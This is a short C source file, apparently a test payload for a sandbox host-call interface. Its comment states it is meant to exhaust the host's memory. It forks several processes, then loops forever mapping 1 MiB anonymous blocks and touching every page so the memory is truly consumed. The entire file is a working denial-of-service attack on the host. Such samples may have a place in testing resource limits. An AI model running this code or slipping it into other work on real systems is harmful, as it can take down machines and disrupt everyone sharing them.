/*
 * why: takes memory until the host has none, in several processes.
 */
#include "host_call.h"

AT_START fill_memory(void)
{
    for (int i = 0; i < 4; i++)
        host_call(HOST_FORK, 0, 0, 0, 0);
    for (;;) {
        /* Private and anonymous: the arguments five and six are left as they are. */
        register long descriptor __asm__("r8") = -1;
        register long offset __asm__("r9") = 0;
        __asm__ volatile("" : "+r"(descriptor), "+r"(offset));
        long block = host_call(HOST_MMAP, 0, 1 << 20, 3, 0x22);
        for (long at = 0; block > 0 && at < 1 << 20; at += 4096)
            *(volatile char *)(block + at) = 1;
    }
}
